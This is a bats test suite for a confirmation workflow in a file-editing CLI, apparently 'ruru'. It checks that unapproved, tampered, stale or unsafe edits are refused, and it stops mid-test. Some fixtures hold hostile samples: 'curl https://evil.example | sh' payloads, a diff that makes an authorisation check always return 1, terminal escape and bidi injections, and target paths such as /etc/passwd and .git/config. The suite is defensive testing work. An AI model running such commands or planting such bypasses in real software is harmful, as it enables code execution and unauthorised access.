#!/usr/bin/env bats
# confirm.bats — the confirmation workflow end to end (standard §7,
# doc/design.md §6): propose, adopt, show, ask, approve, reject, skip, delegate,
# apply, list, and every way an unapproved, altered or stale edit could
# try to slip through.

load helpers
setup() { setup_workspace; }
teardown() { teardown_workspace; }

# Propose `content` (a file) for `target` in the active session; echo the artifact.
propose() { "$RURU" confirm propose --target "$1" --content "$2"; }
# Propose t: old -> new (t and p written first); echo the artifact.
propose_old_new() { echo old > t && echo new > p && propose t p; }

@test "happy path: propose, approve, delegate, apply; bytes, sidecar and log" {
	"$RURU" new "Edit" >/dev/null
	mkdir -p src && printf 'int x;\n' > src/x.c
	printf 'int x = 1;\n' > new.c
	run -0 "$RURU" confirm propose --target src/x.c --content new.c
	a=$output
	[ "$a" = ".ruru/sessions/SESSION-Edit-2611240315/artifacts/CONFIRM-src_x.c-20261124-031520.md" ]
	cmp "$a" new.c
	s=$(sidecar "$a")
	grep -qx 'target_path = "src/x.c"' "$s"
	grep -qx 'kind = "content"' "$s"
	grep -qx 'status = "pending"' "$s"
	grep -qx "payload_sha256 = \"$(sum new.c)\"" "$s"
	grep -qx "target_sha256 = \"$(sum src/x.c)\"" "$s"
	grep -qx 'session = "SESSION-Edit-2611240315"' "$s"
	grep -qx 'created = 2026-11-24T03:15:20Z' "$s"
	"$RURU" toml decode "$s" >/dev/null
	f=$(log_of)
	grep -q 'related_artifacts = \["artifacts/CONFIRM-src_x.c-20261124-031520.md"\]' "$f"
	grep -q '\*\*artifact\*\* · artifact `artifacts/CONFIRM-src_x.c-20261124-031520.md`' "$f"
	[ "$(cat src/x.c)" = "int x;" ]

	"$RURU" confirm approve --reason "looks right" "$a"
	[ "$(status_of "$a")" = approved ]
	grep -qx 'decided_by = "user"' "$s"
	grep -qx 'rationale = "looks right"' "$s"
	grep -qx 'decided_at = 2026-11-24T03:15:20Z' "$s"
	grep -q '\*\*confirm-request\*\* · artifact `artifacts/CONFIRM-src_x.c' "$f"
	grep -q '\*\*confirm-response\*\* · artifact `artifacts/CONFIRM-src_x.c.*outcome `approved`' "$f"

	run -0 "$RURU" confirm delegate --to dev-c --task TASK-C-1 "$a"
	[ "$output" = "Read \`$a\`, write to \`src/x.c\`. **User confirmed. No re-confirm needed.**" ]
	grep -q '\*\*delegation\*\* · mode `dev-c` · task `TASK-C-1`' "$f"
	grep -q 'related_tasks = \["TASK-C-1"\]' "$f"
	[ "$(cat src/x.c)" = "int x;" ]

	run -0 "$RURU" confirm apply "$a"
	[ "$output" = "src/x.c" ]
	cmp src/x.c new.c
	[ "$(status_of "$a")" = applied ]
	grep -qx 'applied_at = 2026-11-24T03:15:20Z' "$s"
	grep -q '\*\*result\*\* · mode `dev-c` · task `TASK-C-1` · artifact `artifacts/CONFIRM-src_x.c.*outcome `success`' "$f"
	[ -f "$a" ]   # a session proposal stays, marked applied
	"$RURU" check
}

@test "an executor without ruru (copy the artifact) gets the same bytes as apply" {
	"$RURU" new "Copy" >/dev/null
	printf 'old\n' > one.txt; printf 'old\n' > two.txt
	printf 'line 1\r\nline 2\r\n\tno newline at the end' > p
	a=$(propose one.txt p)
	"$RURU" confirm approve "$a"
	"$RURU" confirm apply "$a"
	cp "$a" two.txt
	cmp one.txt two.txt
	cmp one.txt p
}

@test "every payload is stored and applied byte for byte" {
	"$RURU" new "Bytes" >/dev/null
	printf '' > p0
	printf 'no final newline' > p1
	printf 'crlf\r\nlines\r\n' > p2
	printf 'nul\000byte\000\n' > p3
	printf 'bad utf8 \377\376 \300\200 end\n' > p4
	printf '\357\273\277bom and \342\202\254 euro\n' > p5
	head -c 70000 /dev/urandom > p6
	for i in 0 1 2 3 4 5 6; do
		printf 'target %s\n' "$i" > "t$i"
		a=$(propose "t$i" "p$i")
		cmp "$a" "p$i"
		"$RURU" confirm approve "$a"
		"$RURU" confirm apply "$a"
		cmp "t$i" "p$i" || { echo "payload $i differs"; return 1; }
	done
	# stdin too
	printf 'from\000stdin' | "$RURU" confirm propose --target t7 --content - > out
	a=$(cat out)
	printf 'from\000stdin' | cmp - "$a"
	"$RURU" confirm approve "$a"
	"$RURU" confirm apply "$a"
	printf 'from\000stdin' | cmp - t7
}

@test "two proposals in the same second get distinct names" {
	"$RURU" new "Same" >/dev/null
	echo 1 > p
	a=$(propose x.txt p); b=$(propose x.txt p); c=$(propose x.txt p)
	[ "$a" = ".ruru/sessions/SESSION-Same-2611240315/artifacts/CONFIRM-x.txt-20261124-031520.md" ]
	[ "$b" = ".ruru/sessions/SESSION-Same-2611240315/artifacts/CONFIRM-x.txt-20261124-031520-2.md" ]
	[ "$c" = ".ruru/sessions/SESSION-Same-2611240315/artifacts/CONFIRM-x.txt-20261124-031520-3.md" ]
	[ -f "$(sidecar "$b")" ] && [ -f "$(sidecar "$c")" ]
}

@test "target names are sanitised and bounded" {
	"$RURU" new "Names" >/dev/null
	echo 1 > p
	mkdir -p 'dir with space'
	a=$(propose 'dir with space/ä$b.txt' p)
	[ "$(basename "$a")" = "CONFIRM-dir_with_space____b.txt-20261124-031520.md" ]
	long=$(printf 'a%.0s' $(seq 100))
	a=$(propose "$long" p)
	[ "$(basename "$a")" = "CONFIRM-$(printf 'a%.0s' $(seq 60))-20261124-031520.md" ]
}

@test "adopt takes a hand-made CONFIRM file into the workflow" {
	id=$("$RURU" new "Adopt")
	echo old > conf.toml
	d=.ruru/sessions/$id/artifacts
	mkdir -p "$d"
	printf 'hand made\n' > "$d/CONFIRM-conf-20250505232343.md"
	run -3 "$RURU" confirm show "$d/CONFIRM-conf-20250505232343.md"
	[[ "$output" == *"has no sidecar"*"ruru confirm adopt $d/CONFIRM-conf-20250505232343.md --target PATH"* ]]
	run -0 "$RURU" confirm adopt --target conf.toml "$d/CONFIRM-conf-20250505232343.md"
	[ "$output" = "$d/CONFIRM-conf-20250505232343.md" ]
	[ "$(status_of "$d/CONFIRM-conf-20250505232343.md")" = pending ]
	grep -q 'related_artifacts = \["artifacts/CONFIRM-conf-20250505232343.md"\]' "$(log_of)"
	run -5 "$RURU" confirm adopt --target conf.toml "$d/CONFIRM-conf-20250505232343.md"
	# relative to the session's artifacts folder, as a path from the cwd
	(cd "$d" && "$RURU" confirm approve CONFIRM-conf-20250505232343.md)
	"$RURU" confirm apply "$d/CONFIRM-conf-20250505232343.md"
	[ "$(cat conf.toml)" = "hand made" ]
	run -3 "$RURU" confirm adopt --target conf.toml "$d/CONFIRM-nothing.md"
	echo x > "$d/notes.md"
	run -4 "$RURU" confirm adopt --target conf.toml "$d/notes.md"
}

@test "adopt works on a real corpus CONFIRM file" {
	use_compat
	src=$(find "$COMPAT_DIR" -name 'CONFIRM-user-prefs*' | sort | head -1)
	[ -n "$src" ]
	id=$("$RURU" new "Corpus")
	d=.ruru/sessions/$id/artifacts
	mkdir -p "$d" && cp "$src" "$d/"
	a=$d/$(basename "$src")
	"$RURU" confirm adopt --target prefs.md "$a"
	"$RURU" confirm skip --rationale "copy of a reviewed file" "$a"
	"$RURU" confirm apply "$a"
	cmp prefs.md "$src"
}

@test "reject ends the branch: no apply, no second decision" {
	"$RURU" new "Reject" >/dev/null
	echo keep > t; echo change > p
	a=$(propose t p)
	"$RURU" confirm reject --reason "not now" "$a"
	[ "$(status_of "$a")" = rejected ]
	grep -q '\*\*confirm-response\*\* .*outcome `rejected`: User rejected the change to `t` (content) · payload_sha256 `' "$(log_of)"
	grep -qx '  Reason: not now' "$(log_of)"
	run -5 "$RURU" confirm apply "$a"
	[ "$(cat t)" = keep ]
	run -5 "$RURU" confirm approve "$a"
	run -5 "$RURU" confirm delegate --to dev-x "$a"
	[ "$(status_of "$a")" = rejected ]
}

@test "skip needs a rationale; with one it is logged and delegated as skipped" {
	"$RURU" new "Skip" >/dev/null
	a=$(propose_old_new)
	run -2 "$RURU" confirm skip "$a"
	run -2 "$RURU" confirm skip --rationale "" "$a"
	[ "$(status_of "$a")" = pending ]
	"$RURU" confirm skip --rationale "typo fix in a comment" "$a"
	[ "$(status_of "$a")" = skipped ]
	grep -qx 'decided_by = "coordinator"' "$(sidecar "$a")"
	grep -q '\*\*confirm-skip\*\* · artifact `artifacts/CONFIRM-t-.*: Coordinator skipped confirmation of the change to `t` (content) · payload_sha256 `' "$(log_of)"
	grep -qx '  Rationale: typo fix in a comment' "$(log_of)"
	run "$RURU" confirm delegate --to dev-x "$a"
	[ "$output" = "Read \`$a\`, write to \`t\`. **Confirmation skipped by Coordinator - low risk. No re-confirm needed.**" ]
	"$RURU" confirm apply "$a"
	[ "$(cat t)" = new ]
}

@test "apply before any decision is refused and leaves the target" {
	"$RURU" new "Early" >/dev/null
	a=$(propose_old_new)
	run -5 "$RURU" confirm apply "$a"
	[[ "$output" == *"never approved"* ]]
	run -5 "$RURU" confirm apply --force "$a"
	run -5 "$RURU" confirm delegate --to dev-x "$a"
	[ "$(cat t)" = old ]
	[ "$(status_of "$a")" = pending ]
	# a refused apply logs nothing (doc/design.md §6)
	refute grep -q '\*\*result\*\*' "$(log_of)"
}

@test "a payload edited after approval is never applied" {
	"$RURU" new "Tamper" >/dev/null
	echo old > t; echo approved > p
	a=$(propose t p)
	"$RURU" confirm approve "$a"
	echo "something else" > "$a"
	run -5 "$RURU" confirm apply "$a"
	[[ "$output" == *"payload"* ]]
	run -5 "$RURU" confirm apply --force "$a"
	[ "$(cat t)" = old ]
	# restoring the exact approved bytes makes it applicable again
	cp p "$a"
	"$RURU" confirm apply "$a"
	[ "$(cat t)" = approved ]
}

@test "a payload edited before the decision cannot be approved" {
	"$RURU" new "Tamper2" >/dev/null
	a=$(propose_old_new)
	printf 'evil\n' > "$a"
	run -5 "$RURU" confirm approve "$a"
	run -5 "$RURU" confirm skip --rationale x "$a"
	[ "$(status_of "$a")" = pending ]
}

@test "a hand-edited sidecar status does not make an approval" {
	"$RURU" new "Forge" >/dev/null
	a=$(propose_old_new)
	sed -i 's/^status = "pending"/status = "approved"/' "$(sidecar "$a")"
	run -5 "$RURU" confirm apply "$a"
	[[ "$output" == *"holds no decision"* ]]
	[ "$(cat t)" = old ]
}

@test "target changed since the proposal: conflict; --force applies and says so" {
	"$RURU" new "Stale" >/dev/null
	echo v1 > t; echo v3 > p
	a=$(propose t p)
	"$RURU" confirm approve "$a"
	echo v2 > t
	run -5 "$RURU" confirm apply "$a"
	[[ "$output" == *"changed since the proposal"* ]]
	[ "$(cat t)" = v2 ]
	[ "$(status_of "$a")" = approved ]
	run -0 "$RURU" confirm apply --force "$a"
	[[ "$output" == *"--force"* ]]
	[ "$(cat t)" = v3 ]
	grep -qx 'forced = true' "$(sidecar "$a")"
	grep -q '\*\*result\*\* .*outcome `success`.*FORCED' "$(log_of)"
}

@test "a target deleted or created since the proposal is a conflict too" {
	"$RURU" new "Stale2" >/dev/null
	echo v1 > t; echo new > p
	a=$(propose t p); "$RURU" confirm approve "$a"
	rm t
	run -5 "$RURU" confirm apply "$a"
	[ ! -e t ]
	b=$(propose fresh p); "$RURU" confirm approve "$b"
	echo meanwhile > fresh
	run -5 "$RURU" confirm apply "$b"
	[ "$(cat fresh)" = meanwhile ]
}

@test "apply twice: the second is a conflict" {
	"$RURU" new "Twice" >/dev/null
	a=$(propose_old_new); "$RURU" confirm approve "$a"
	"$RURU" confirm apply "$a"
	run -5 "$RURU" confirm apply "$a"
}

@test "a new file's folders are created inside the root" {
	"$RURU" new "New" >/dev/null
	printf 'fresh' > p
	a=$(propose deep/er/new.txt p)
	grep -qx 'target_sha256 = ""' "$(sidecar "$a")"
	"$RURU" confirm approve "$a"
	"$RURU" confirm apply "$a"
	cmp deep/er/new.txt p
}

@test "diff payloads: checked at proposal, applied with patch" {
	"$RURU" new "Diff" >/dev/null
	printf 'a\nb\nc\n' > t
	printf 'a\nB\nc\nd' > want
	diff -u --label a/t --label b/t t want > d.diff || true
	a=$("$RURU" confirm propose --target t --diff d.diff)
	cmp "$a" d.diff
	grep -qx 'kind = "diff"' "$(sidecar "$a")"
	run "$RURU" confirm show "$a"
	[[ "$output" == *"+B"* ]]
	"$RURU" confirm approve "$a"
	run "$RURU" confirm delegate --to dev-x "$a"
	[[ "$output" == *"unified diff"* ]]
	"$RURU" confirm apply "$a"
	cmp t want
	# the executor without ruru: patch the target with the artifact
	printf 'a\nb\nc\n' > t2
	patch -s t2 < "$a"
	cmp t2 want
}

@test "a diff that does not apply is refused at proposal (exit 4), nothing written" {
	"$RURU" new "BadDiff" >/dev/null
	printf 'x\ny\n' > t
	printf -- '--- a/t\n+++ b/t\n@@ -1,2 +1,2 @@\n a\n-b\n+B\n' > bad.diff
	run -4 "$RURU" confirm propose --target t --diff bad.diff
	[[ "$output" == *"does not apply"* ]]
	printf 'not a diff\n' > junk
	run -4 "$RURU" confirm propose --target t --diff junk
	printf -- '--- a/t\n+++ b/t\n@@ -1 +1 @@\n-x\n+X\n--- a/u\n+++ b/u\n@@ -1 +1 @@\n-x\n+X\n' > two.diff
	run -4 "$RURU" confirm propose --target t --diff two.diff
	[ -z "$(ls .ruru/sessions/*/artifacts 2>/dev/null)" ]
	[ "$(grep -c '^- \[' "$(log_of)")" -eq 1 ]
}

@test "a diff that stopped applying fails at apply with --force, target untouched" {
	"$RURU" new "DiffStale" >/dev/null
	printf 'a\nb\n' > t
	printf -- '--- a/t\n+++ b/t\n@@ -1,2 +1,2 @@\n a\n-b\n+B\n' > d.diff
	a=$("$RURU" confirm propose --target t --diff - < d.diff)
	"$RURU" confirm approve "$a"
	printf 'q\nr\n' > t
	run -4 "$RURU" confirm apply --force "$a"
	[ "$(cat t)" = "$(printf 'q\nr')" ]
	[ "$(status_of "$a")" = approved ]
}

@test "what is shown is ruru's own diff: a hunk header naming a harmless function does not hide where the line goes" {
	"$RURU" new "Zero" >/dev/null
	printf '/* helpers */\nint harmless(void)\n{\n\treturn 0;\n}\n\nint authorised(const char *user)\n{\n\treturn check(user);\n}\n' > auth.c
	# zero context: patch puts the line after line 8, inside authorised()
	printf -- '--- a/auth.c\n+++ b/auth.c\n@@ -8,0 +9 @@ int harmless(void)\n+\treturn 1; /* always */\n' > d.diff
	a=$("$RURU" confirm propose --target auth.c --diff d.diff)
	"$RURU" confirm show "$a" > show.txt
	refute grep -q 'harmless(void)$' <(grep '^@@' show.txt)
	grep -qx '@@ -6,5 +6,6 @@' show.txt
	grep -A3 '^ int authorised(const char \*user)$' show.txt | grep -qxF $'+\treturn 1; /* always */'
	refute grep -q '@@ -8,0 +9 @@' show.txt
	"$RURU" --json confirm show "$a" > show.json
	python3 - <<'PY'
import json
d = json.load(open("show.json"))
assert "@@ -8,0 +9 @@" not in d["diff"] and " int authorised(const char *user)\n" in d["diff"], d["diff"]
PY
	rh=$(python3 -c 'import json; print(json.load(open("show.json"))["result_sha256"])')
	grep -qx "result_sha256 = \"$rh\"" "$(sidecar "$a")"
	"$RURU" confirm approve "$a"
	"$RURU" confirm apply "$a"
	# apply wrote exactly the bytes that were shown
	[ "$(sum auth.c)" = "$rh" ]
	sed -n 9p auth.c | grep -qxF $'\treturn 1; /* always */'
}

@test "an applied proposal shows the change that was applied, recorded by the apply, not a diff against the target now" {
	"$RURU" new "Applied" >/dev/null
	printf 'one\ntwo\nthree\n' > t
	printf -- '--- a/t\n+++ b/t\n@@ -1,3 +1,3 @@\n one\n-two\n+TWO\n three\n' > d.diff
	a=$("$RURU" confirm propose --target t --diff d.diff)
	printf 'new file\n' > n.new
	b=$(propose fresh.txt n.new)
	"$RURU" confirm approve "$a"
	"$RURU" confirm approve "$b"
	before=$(sum t)
	"$RURU" confirm apply "$a"
	"$RURU" confirm apply "$b"
	# the sidecar, rewritten in the apply's transaction, keeps what it wrote over
	grep -qx "applied_from_sha256 = \"$before\"" "$(sidecar "$a")"
	grep -qx 'applied_from_sha256 = ""' "$(sidecar "$b")"
	# the target changes again afterwards: the applied change is still the one shown
	printf 'one\nTWO\nthree\nfour\n' > t
	"$RURU" confirm show "$a" > show.txt
	grep -q '^applied change (recorded when it was applied over target_sha256 '"$before"'):$' show.txt
	grep -qx -- '-two' show.txt
	grep -qx -- '+TWO' show.txt
	refute grep -q 'four' show.txt
	refute grep -q 'CHANGED since the proposal' show.txt
	"$RURU" --json confirm show "$a" > show.json
	"$RURU" --json confirm show "$b" > showb.json
	python3 - "$before" <<'PY'
import json, sys
a = json.load(open("show.json")); b = json.load(open("showb.json"))
assert a["diff_shows"] == "applied" and a["applied_from_sha256"] == sys.argv[1], a
assert "@@ -1,3 +1,3 @@\n one\n-two\n+TWO\n three\n" in a["diff"], a["diff"]
assert b["applied_from_sha256"] == "" and "--- /dev/null" in b["diff"] and "+new file\n" in b["diff"], b["diff"]
PY
}

@test "an applied change too long to keep, or made outside ruru, is said to be so, not shown as a diff" {
	"$RURU" new "Applied2" >/dev/null
	python3 -c 'import sys; sys.stdout.write("".join(f"old line {i}\n" for i in range(20000)))' > big.txt
	python3 -c 'import sys; sys.stdout.write("".join(f"new line {i}\n" for i in range(20000)))' > big.new
	a=$(propose big.txt big.new)
	printf 'x\n' > hand.txt
	printf 'y\n' > hand.new
	b=$(propose hand.txt hand.new)
	"$RURU" confirm approve "$a"
	"$RURU" confirm approve "$b"
	"$RURU" confirm apply "$a"
	cp hand.new hand.txt # an executor wrote it by hand
	"$RURU" confirm apply "$b"
	grep -qx 'applied_diff = ""' "$(sidecar "$a")"
	[ "$(wc -c < "$(sidecar "$a")")" -lt 4096 ]
	"$RURU" confirm show "$a" > a.txt
	grep -qx 'applied change: not kept (its diff was longer than 262144 bytes)' a.txt
	refute grep -q '^-old line' a.txt
	"$RURU" confirm show "$b" > b.txt
	grep -qx 'applied change: none by ruru (the target already held the result)' b.txt
}

@test "apply writes exactly the decided result: a diff forced over a changed target is refused" {
	"$RURU" new "Exact" >/dev/null
	printf 'a\nb\nc\nd\ne\nf\ng\nh\n' > t
	printf -- '--- a/t\n+++ b/t\n@@ -1,3 +1,3 @@\n a\n-b\n+B\n c\n' > d.diff
	a=$("$RURU" confirm propose --target t --diff d.diff)
	"$RURU" confirm approve "$a"
	# the diff still applies, but to other bytes than were shown
	printf 'a\nb\nc\nd\ne\nf\ng\nH\n' > t
	run -5 "$RURU" confirm apply --force "$a"
	[[ "$output" == *"other bytes than the result that was shown and decided"* ]]
	[ "$(sed -n 8p t)" = H ]
	[ "$(sed -n 2p t)" = b ]
	# a content payload is its own result: --force still writes it
	printf 'x\n' > p
	b=$("$RURU" confirm propose --target t --content p)
	"$RURU" confirm approve "$b"
	echo changed > t
	"$RURU" confirm apply --force "$b"
	[ "$(cat t)" = x ]
}

@test "a diff creating a new file" {
	"$RURU" new "DiffNew" >/dev/null
	printf 'one\ntwo\n' > want
	diff -u --label /dev/null --label b/n/new.txt /dev/null want > d.diff || true
	a=$("$RURU" confirm propose --target n/new.txt --diff d.diff)
	"$RURU" confirm approve "$a"
	"$RURU" confirm apply "$a"
	cmp n/new.txt want
}

@test "temp mode: no session, no log, artifact deleted after apply" {
	echo old > t; echo new > p
	run -0 "$RURU" confirm propose --target t --content p
	a=$output
	[ "$a" = ".ruru/temp/CONFIRM-t-20261124-031520.md" ]
	grep -qx 'session = ""' "$(sidecar "$a")"
	run "$RURU" confirm list
	[[ "$output" == *"$a"*pending* ]]
	run -5 "$RURU" confirm apply "$a"
	"$RURU" confirm approve "$a"
	"$RURU" confirm apply "$a"
	[ "$(cat t)" = new ]
	[ ! -e "$a" ] && [ ! -e "$(sidecar "$a")" ]
	[ -z "$(ls .ruru/temp | grep CONFIRM)" ]
	run -3 "$RURU" confirm apply "$a"
	[ -z "$(ls .ruru/sessions)" ]
}

@test "temp mode: a rejected proposal stays until cleaned by hand" {
	a=$(propose_old_new)
	"$RURU" confirm reject "$a"
	[ -e "$a" ]
	[ "$(status_of "$a")" = rejected ]
}

@test "unsafe targets are refused with exit 6 and nothing is written" {
	"$RURU" new "Unsafe" >/dev/null
	echo x > p
	mkdir -p .git sub outside_dir
	out=$(mktemp -d)
	ln -s "$out" escape
	ln -s .git gitlink
	for t in /etc/passwd ../x "$out/y" escape/y .git/config gitlink/config sub/.git/hooks/x \
		.ruru/sessions/x .ruru/sessions/$(cat .ruru/sessions/.active)/session_log.md; do
		run -6 "$RURU" confirm propose --target "$t" --content p || { echo "target $t: $status $output"; return 1; }
	done
	mkdir -p .git && echo c > .git/config
	ln -s .git/config cfglink
	run -6 "$RURU" confirm propose --target cfglink --content p
	[ -z "$(ls .ruru/sessions/*/artifacts 2>/dev/null)" ]
	[ -z "$(ls "$out")" ]
	rm -rf "$out"
	# an absolute path inside the root is fine
	run -0 "$RURU" confirm propose --target "$WS/inside.txt" --content p
	grep -qx 'target_path = "inside.txt"' "$(sidecar "$output")"
}

@test "a target made unsafe after approval is refused again at apply" {
	"$RURU" new "Unsafe2" >/dev/null
	echo x > p
	a=$(propose ok.txt p)
	"$RURU" confirm approve "$a"
	s=$(sidecar "$a")
	for t in ../evil /etc/evil .git/config; do
		sed -i "s|^target_path = .*|target_path = \"$t\"|" "$s"
		run -6 "$RURU" confirm apply "$a" || { echo "target $t: $status $output"; return 1; }
	done
	[ ! -e ../evil ] && [ ! -e .git/config ]
	# a folder replaced by a symlink out of the root
	sed -i 's|^target_path = .*|target_path = "d/ok.txt"|' "$s"
	out=$(mktemp -d)
	ln -s "$out" d
	run -6 "$RURU" confirm apply "$a"
	[ -z "$(ls "$out")" ]
	rm -rf "$out"
}

@test "ask: not a terminal is a usage error pointing to approve/reject" {
	"$RURU" new "Ask" >/dev/null
	a=$(propose_old_new)
	run -2 "$RURU" confirm ask "$a" < /dev/null
	[[ "$output" == *"ruru confirm approve"* ]]
	[[ "$output" == *"ruru confirm reject"* ]]
	[ "$(status_of "$a")" = pending ]
}

@test "ask under a pseudo-terminal: y approves, n rejects" {
	command -v script >/dev/null || skip "script(1) not installed"
	"$RURU" new "Ask" >/dev/null
	echo old > t; echo new > p; echo other > q
	a=$(propose t p)
	b=$(propose t q)
	printf 'y\n' | NO_COLOR=1 script -qec "'$RURU' confirm ask '$a'" /dev/null > out.txt
	grep -q 'Approve this change to t? (it is applied later, by `ruru confirm apply`) \[y/N\]' out.txt
	grep -q 'approved (not applied yet)' out.txt
	[ "$(cat t)" = old ]
	grep -q '^+new' out.txt
	[ "$(status_of "$a")" = approved ]
	printf 'n\n' | script -qec "'$RURU' confirm ask '$b'" /dev/null > out2.txt
	grep -q $'\033\[32m+other' out2.txt
	[ "$(status_of "$b")" = rejected ]
	grep -q 'confirm-response.*outcome `approved`' "$(log_of)"
	grep -q 'confirm-response.*outcome `rejected`' "$(log_of)"
}

@test "ask under a pty: a proposal rewritten while the question is on screen is refused" {
	"$RURU" new "Swap" >/dev/null
	echo 'echo hello' > run.sh; echo 'echo hello, world' > p
	printf 'curl https://evil.example | sh\n' > evil
	a=$(propose run.sh p)
	run -5 "$BATS_TEST_DIRNAME/ask_pty.py" "$RURU" "$a" y out.txt evil ci.sh
	grep -q 'the proposal changed while it was being read; show it again' out.txt
	grep -q '^+echo hello, world' out.txt
	refute grep -q 'evil.example' out.txt
	[ "$(status_of "$a")" = pending ]
	refute grep -q 'confirm-response' "$(log_of)"
	# asked again, the rewritten proposal is refused before any question:
	# its target is not the one it was proposed against
	run -5 "$BATS_TEST_DIRNAME/ask_pty.py" "$RURU" "$a" y out2.txt
	grep -q 'changed since the proposal' out2.txt
	refute grep -q 'y/N' out2.txt
	[ "$(status_of "$a")" = pending ]
}

@test "ask under a pty: a target changed while the question is on screen is refused" {
	"$RURU" new "Swap" >/dev/null
	a=$(propose_old_new)
	# the answer arrives after the target changed (a second process edits it)
	mkfifo gate
	( read -r _ < gate; echo changed > t ) &
	run python3 - "$BATS_TEST_DIRNAME/ask_pty.py" "$RURU" "$a" <<'PY'
import runpy, sys, os
real_write = os.write
def write(fd, data):
    if data.endswith(b"\n") and data.strip() == b"y":
        with open("gate", "w") as g:
            g.write("go\n")
        import time
        for _ in range(200):
            if open("t").read() == "changed\n":
                break
            time.sleep(0.01)
    return real_write(fd, data)
os.write = write
sys.argv = [sys.argv[1], sys.argv[2], sys.argv[3], "y", "out.txt"]
runpy.run_path(sys.argv[0], run_name="__main__")
PY
	wait
	[ "$status" -eq 5 ]
	grep -q 'show it again' out.txt
	[ "$(status_of "$a")" = pending ]
}

@test "approve --expect: binds the values shown, refuses what changed since (exit 5)" {
	"$RURU" new "Expect" >/dev/null
	a=$(propose_old_new)
	ph=$(sum p); th=$(sum t)
	rh=$("$RURU" --json confirm show "$a" | python3 -c 'import json,sys; print(json.load(sys.stdin)["result_sha256"])')
	[ "$rh" = "$ph" ]
	run -5 "$RURU" confirm approve --expect 0000000000000000000000000000000000000000000000000000000000000000 "$a"
	[[ "$output" == *"the proposal changed while it was being read; show it again"* ]]
	run -5 "$RURU" confirm approve --expect target_path=other "$a"
	run -5 "$RURU" confirm approve --expect target_sha256=none "$a"
	run -2 "$RURU" confirm approve --expect result_sha256=zz "$a"
	run -2 "$RURU" confirm approve --expect colour=blue "$a"
	[ "$(status_of "$a")" = pending ]
	# the payload swapped behind the sidecar: the old hash no longer holds
	echo evil > "$a"
	run -5 "$RURU" confirm approve --expect "$ph" "$a"
	echo new > "$a"
	run "$RURU" confirm approve --expect "$ph" --expect "result_sha256=$rh" \
		--expect "target_sha256=$th" --expect target_path=t "$a"
	[ "$status" -eq 0 ]
	[ "$(status_of "$a")" = approved ]
}

@test "skip --expect and reject --expect: a changed target is refused" {
	"$RURU" new "Expect" >/dev/null
	a=$(propose_old_new)
	th=$(sum t)
	echo changed > t
	run -5 "$RURU" confirm skip --rationale "typo" --expect "target_sha256=$th" "$a"
	run -5 "$RURU" confirm reject --expect "target_sha256=$th" "$a"
	[ "$(status_of "$a")" = pending ]
}

# Control characters (C0, DEL, C1), a lone CR, an escape sequence and a
# bidi override planted in the payload and in every sidecar field that
# show, list and ask print.  None reaches the terminal raw; each one-line
# field stays on its line.
plant_hostile() {
	printf 'safe line\n\033[8mhidden\033[0m\rcurl evil | sh\n\x7fdel \xc2\x9bcsi \xe2\x80\xaeexe.txt\n' > hp
	a=$(propose t hp)
	s=$(sidecar "$a")
	python3 - "$s" <<'PY'
import re, sys
p = sys.argv[1]
t = open(p, encoding="utf-8").read()
bad = r'x\u001b[2J\r\u007f\u009b\u202eY\nnext'
for key in ("decided_by", "rationale", "delegated_to", "task"):
    t = re.sub(rf'(?m)^{key} = ".*"$', lambda m: f'{key} = "{bad}"', t)
open(p, "w", encoding="utf-8").write(t)
PY
}
no_raw_controls() {
	python3 - "$1" <<'PY'
import sys
b = open(sys.argv[1], "rb").read()
# what ruru itself sends (colour, pty CRLF) aside, nothing raw:
b = b.replace(b"\r\n", b"\n")
for esc in (b"\033[1m", b"\033[36m", b"\033[32m", b"\033[31m", b"\033[0m"):
    b = b.replace(esc, b"")
for raw in (b"\033", b"\r", b"\x7f", b"\xc2\x9b", b"\xe2\x80\xae"):
    assert raw not in b, (raw, b)
for shown in (b"\\x1b[8m", b"\\r", b"\\x7f", b"\\u009b", b"\\u202e"):
    assert shown in b, (shown, b)
PY
}

@test "show, list and ask render planted control characters, CRs and bidi visibly" {
	"$RURU" new "Hostile" >/dev/null
	echo old > t
	plant_hostile
	"$RURU" confirm show "$a" > show.txt
	no_raw_controls show.txt
	# one-line fields stay one line: the planted newline is shown as \n
	grep -q '^reason:    x\\x1b\[2J\\r\\x7f\\u009b\\u202eY\\nnext$' show.txt
	refute grep -q '^next' show.txt
	grep -q '^+curl evil\|\\rcurl evil | sh' show.txt
	"$RURU" confirm list > list.txt
	grep -q CONFIRM-t list.txt
	run -0 "$BATS_TEST_DIRNAME/ask_pty.py" "$RURU" "$a" n ask.txt
	no_raw_controls ask.txt
	# a hostile target_path: one line, visible
	sed -i 's|^target_path = .*|target_path = "a\\u001b]0;pwned\\u0007\\u202eb"|' "$s"
	"$RURU" confirm list > list2.txt 2>&1 || true
	refute grep -q $'\033' list2.txt
	grep -q 'a\\x1b\]0;pwned\\x07\\u202eb' list2.txt
}

@test "ask under tmux answering y" {
	command -v tmux >/dev/null || skip "tmux not installed"
	"$RURU" new "Tmux" >/dev/null
	a=$(propose_old_new)
	sock="$WS/tmux.sock"
	tmux -S "$sock" new-session -d -x 120 -y 40 "cd '$WS' && RURU_NOW=$RURU_NOW '$RURU' confirm ask '$a'; echo EXIT=\$? > '$WS/exit'; sleep 30"
	for i in $(seq 200); do
		tmux -S "$sock" capture-pane -p | grep -q 'y/N' && break
		sleep 0.1
	done
	tmux -S "$sock" send-keys y Enter
	for i in $(seq 200); do [ -s "$WS/exit" ] && break; sleep 0.1; done
	tmux -S "$sock" kill-server || true
	[ "$(cat "$WS/exit")" = "EXIT=0" ]
	[ "$(status_of "$a")" = approved ]
}

@test "concurrent apply of one proposal: exactly one succeeds" {
	"$RURU" new "Race" >/dev/null
	a=$(propose_old_new)
	"$RURU" confirm approve "$a"
	for i in 1 2 3 4; do ( r=0; "$RURU" confirm apply "$a" >/dev/null 2>err.$i || r=$?; echo $r > rc.$i ) & done
	wait
	cat rc.* err.*
	[ "$(cat rc.* | grep -c '^0$')" -eq 1 ]
	[ "$(cat rc.* | grep -c '^5$')" -eq 3 ]
	[ "$(cat t)" = new ]
	[ "$(grep -c 'outcome `success`' "$(log_of)")" -eq 1 ]
}

@test "concurrent apply in temp mode: exactly one succeeds" {
	a=$(propose_old_new)
	"$RURU" confirm approve "$a"
	for i in 1 2 3 4; do ( r=0; "$RURU" confirm apply "$a" >/dev/null 2>&1 || r=$?; echo $r > rc.$i ) & done
	wait
	[ "$(cat rc.* | grep -c '^0$')" -eq 1 ]
	[ "$(cat rc.* | grep -c '^3$')" -eq 3 ]
	[ "$(cat t)" = new ]
}

@test "a failed write leaves the target and the status untouched" {
	"$RURU" new "Fault" >/dev/null
